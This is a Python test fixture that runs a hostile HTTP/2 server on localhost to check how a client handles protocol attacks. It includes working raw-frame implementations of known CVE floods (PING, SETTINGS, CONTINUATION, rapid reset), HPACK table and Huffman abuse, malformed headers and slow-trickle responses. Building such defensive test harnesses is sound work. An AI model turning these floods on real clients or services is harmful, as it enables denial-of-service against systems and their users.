"""A hostile HTTP/2 server: raw frames over TLS, one behaviour per attack class on HTTP/2
clients (the 2019 advisories, rapid reset, the CONTINUATION flood, HPACK abuse, trickled
answers, malformed fields). It runs in a process of its own (``python -m tests.kube.h2hostile
DIR CASE``), so its floods cost the process under test nothing but what they make it do;
it writes ``DIR/ca.pem`` and ``DIR/port`` when it listens, and ``DIR/report.json`` (what
it saw the client do) when the client's first connection ends.

Each behaviour answers the client's first request (a call or a watch, as the client
makes it) on that request's stream. New classes are one entry in :data:`BEHAVIOURS`.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import struct
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path

import hpack
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from fleet.local.pki import CertificateAuthority

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HUFFMAN = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH)
STATUS_200 = b"\x88"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    size = len(payload)
    return struct.pack(">HBBBL", size >> 8, size & 0xFF, kind, flags, stream_id) + payload


def literal(name: bytes, value: bytes, huffman: bool = False) -> bytes:
    """A header as a literal not indexed, its name a string."""

    def string(data: bytes) -> bytes:
        coded = _HUFFMAN.encode(data) if huffman else data
        assert len(coded) < 127
        return bytes([(0x80 if huffman else 0) | len(coded)]) + coded

    return b"\x00" + string(name) + string(value)


class Peer:
    """The server's side of one connection: what the client sent, and ways to answer."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.requests: asyncio.Queue[tuple[int, bytes]] = asyncio.Queue()
        self.report: dict[str, object] = {"resets": 0, "goaway": None, "sent": 0}
        self.reset_streams: set[int] = set()
        self.gone = asyncio.Event()
        self._decoder = hpack.Decoder()

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        self.report["sent"] = int(self.report["sent"]) + len(data)  # type: ignore[call-overload]
        await self.writer.drain()

    async def read_frames(self) -> None:
        """Read what the client sends until it closes: requests are queued by stream,
        resets and GOAWAY recorded; the client's SETTINGS acknowledged."""
        try:
            if await self.reader.readexactly(len(PREFACE)) != PREFACE:
                return
            while True:
                head = await self.reader.readexactly(9)
                high, low, kind, flags, stream_id = struct.unpack(">HBBBL", head)
                payload = await self.reader.readexactly(high << 8 | low)
                stream_id &= 0x7FFFFFFF
                if kind == SETTINGS and not flags & ACK:
                    self.writer.write(frame(SETTINGS, ACK, 0))
                elif kind == HEADERS:
                    block = payload  # (our client never pads nor splits small blocks)
                    fields = dict(self._decoder.decode(block, raw=True))
                    await self.requests.put((stream_id, bytes(fields.get(b":path", b""))))
                elif kind == RST_STREAM:
                    self.report["resets"] = int(self.report["resets"]) + 1  # type: ignore[call-overload]
                    self.reset_streams.add(stream_id)
                elif kind == GOAWAY:
                    self.report["goaway"] = struct.unpack(">LL", payload[:8])[1]
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
            pass
        finally:
            self.gone.set()


Behaviour = Callable[[Peer, int], Awaitable[None]]


async def _answer_then(peer: Peer, sid: int, then: Callable[[int], bytes], count: int) -> None:
    """Answer 200 (no end), then send ``then(i)`` for ``count`` turns, in batches."""
    await peer.send(frame(HEADERS, END_HEADERS, sid, STATUS_200))
    await _flood(peer, then, count)


async def _flood(peer: Peer, make: Callable[[int], bytes], count: int) -> None:
    batch = 500
    for start in range(0, count, batch):
        if peer.gone.is_set():
            return
        await peer.send(b"".join(make(i) for i in range(start, min(start + batch, count))))


async def ping_flood(peer: Peer, sid: int) -> None:  # CVE-2019-9512
    await _flood(peer, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), 200_000)


async def settings_flood(peer: Peer, sid: int) -> None:  # CVE-2019-9515, table sizes among them
    sizes = struct.pack(">HLHL", 1, 0, 1, 4096)
    await _flood(peer, lambda i: frame(SETTINGS, 0, 0, sizes), 200_000)


async def empty_data_flood(peer: Peer, sid: int) -> None:  # CVE-2019-9518
    await _answer_then(peer, sid, lambda i: frame(DATA, 0, sid), 500_000)


async def empty_headers_flood(peer: Peer, sid: int) -> None:  # CVE-2019-9516
    await peer.send(frame(HEADERS, 0, sid))
    await _flood(peer, lambda i: frame(CONTINUATION, 0, sid), 500_000)


async def continuation_flood(peer: Peer, sid: int) -> None:  # CVE-2024-27316
    await peer.send(frame(HEADERS, 0, sid, STATUS_200))
    filler = literal(b"x-filler", b"f" * 50)
    await _flood(peer, lambda i: frame(CONTINUATION, 0, sid, filler), 500_000)


async def rapid_reset(peer: Peer, sid: int) -> None:  # the client's side of CVE-2023-44487
    await peer.send(frame(RST_STREAM, 0, sid, struct.pack(">L", 7)))  # REFUSED_STREAM
    await _flood(peer, lambda i: frame(RST_STREAM, 0, sid, struct.pack(">L", 8)), 200_000)


async def priority_flood(peer: Peer, sid: int) -> None:
    await _flood(peer, lambda i: frame(PRIORITY, 0, sid, bytes(5)), 200_000)


async def window_update_flood(peer: Peer, sid: int) -> None:
    await _flood(peer, lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)), 200_000)


async def unknown_frame_flood(peer: Peer, sid: int) -> None:
    await _flood(peer, lambda i: frame(0x42, 0, 0, b"x" * 16), 200_000)


async def dynamic_table(peer: Peer, sid: int) -> None:
    """Headers that use a compression table the client never gave the server: a slow
    stream of such blocks kept a pure-Python decoder busy."""
    insert = b"\x40" + bytes([6]) + b"x-junk" + bytes([100]) + b"j" * 100  # with indexing
    await peer.send(frame(HEADERS, END_HEADERS, sid, STATUS_200 + insert + b"\xbe" * 100))


async def huffman_names(peer: Peer, sid: int) -> None:
    """A block of the largest size, every name new and Huffman-coded (each decoded to be
    checked): bounded by the decoder's budget."""
    names = b"".join(literal(f"x-n{i:06}".encode(), b"1", huffman=True) for i in range(6000))
    block = STATUS_200 + names[:60_000]
    first, rest = block[:16_384], block[16_384:]
    parts = [rest[i : i + 16_384] for i in range(0, len(rest), 16_384)]
    data = frame(HEADERS, 0, sid, first)
    for i, part in enumerate(parts):
        data += frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, sid, part)
    await peer.send(data)
    await peer.gone.wait()


async def upper_case_encoding(peer: Peer, sid: int) -> None:
    """``Content-Encoding`` in upper case and a gzip body: was neither decoded nor refused,
    and escaped as a UnicodeDecodeError."""
    import gzip

    body = gzip.compress(b'{"kind": "Status"}')
    block = STATUS_200 + literal(b"Content-Encoding", b"gzip")
    await peer.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, body))
    await peer.gone.wait()


async def pseudo_header_misplaced(peer: Peer, sid: int) -> None:
    block = literal(b"audit-id", b"1") + STATUS_200 + literal(b":path", b"/x")
    await peer.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
    await peer.gone.wait()


async def trickle_call(peer: Peer, sid: int) -> None:
    """An answer that never ends: a byte every 50 ms (each read came within the read
    timeout, so a call lasted as long as the server liked)."""
    await peer.send(frame(HEADERS, END_HEADERS, sid, STATUS_200))
    for _ in range(1200):
        if sid in peer.reset_streams or peer.gone.is_set():
            peer.report["cut_short"] = True
            return
        await peer.send(frame(DATA, 0, sid, b" "))
        await asyncio.sleep(0.05)


async def trickle_watch(peer: Peer, sid: int) -> None:
    """A watch that sends bytes but never a whole event (no line end): it kept the watch
    open and the member looking healthy."""
    await trickle_call(peer, sid)


async def tiny_frames(peer: Peer, sid: int) -> None:
    """A watch whose event arrives a byte a frame, as fast as the client takes it."""
    await _answer_then(peer, sid, lambda i: frame(DATA, 0, sid, b"x"), 1_000_000)


async def empty_frames_trickled(peer: Peer, sid: int) -> None:
    """Empty DATA frames every 10 ms: they reset a read timeout that counted any frame."""
    await peer.send(frame(HEADERS, END_HEADERS, sid, STATUS_200))
    for _ in range(6000):
        if sid in peer.reset_streams or peer.gone.is_set():
            peer.report["cut_short"] = True
            return
        await peer.send(frame(DATA, 0, sid))
        await asyncio.sleep(0.01)


BEHAVIOURS: dict[str, Behaviour] = {
    f.__name__: f
    for f in (
        ping_flood,
        settings_flood,
        empty_data_flood,
        empty_headers_flood,
        continuation_flood,
        rapid_reset,
        priority_flood,
        window_update_flood,
        unknown_frame_flood,
        dynamic_table,
        huffman_names,
        upper_case_encoding,
        pseudo_header_misplaced,
        trickle_call,
        trickle_watch,
        tiny_frames,
        empty_frames_trickled,
    )
}


async def serve(directory: Path, case: str) -> None:
    ca = CertificateAuthority(directory, "hostile-ca")
    serving = ca.issue("server", "server", server_hosts=["127.0.0.1"])
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(serving.cert, serving.key)
    tls.set_alpn_protocols(["h2"])
    behave = BEHAVIOURS[case]
    done = asyncio.Event()
    peers: list[Peer] = []

    async def connection(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        peer = Peer(reader, writer)
        peers.append(peer)
        writer.write(frame(SETTINGS, 0, 0, struct.pack(">HL", 3, 100)))  # 100 streams
        reading = asyncio.create_task(peer.read_frames())
        first = len(peers) == 1
        try:
            while not peer.gone.is_set():
                got = asyncio.create_task(peer.requests.get())
                await asyncio.wait(
                    [got, asyncio.create_task(peer.gone.wait())],
                    timeout=60,
                    return_when=asyncio.FIRST_COMPLETED,
                )
                if not got.done():
                    got.cancel()
                    break
                sid, _path = got.result()
                if first:
                    await behave(peer, sid)
                    await asyncio.wait_for(peer.gone.wait(), 60)
                    break
                await peer.send(frame(HEADERS, END_HEADERS, sid, STATUS_200))
                await peer.send(frame(DATA, END_STREAM, sid, b'{"kind": "Status"}'))
        except (ConnectionError, ssl.SSLError, TimeoutError):
            pass
        finally:
            reading.cancel()
            writer.close()
            if first:
                (directory / "report.json").write_text(json.dumps(peer.report))
                done.set()

    server = await asyncio.start_server(connection, "127.0.0.1", 0, ssl=tls)
    port = server.sockets[0].getsockname()[1]
    (directory / "ca.pem").write_bytes(ca.pair.cert.read_bytes())
    (directory / "port").write_text(str(port))
    async with server:
        try:
            await asyncio.wait_for(done.wait(), 120)
            await asyncio.sleep(1)  # (a second connection the client may make meanwhile)
        except TimeoutError:
            pass


if __name__ == "__main__":
    asyncio.run(serve(Path(sys.argv[1]), sys.argv[2]))
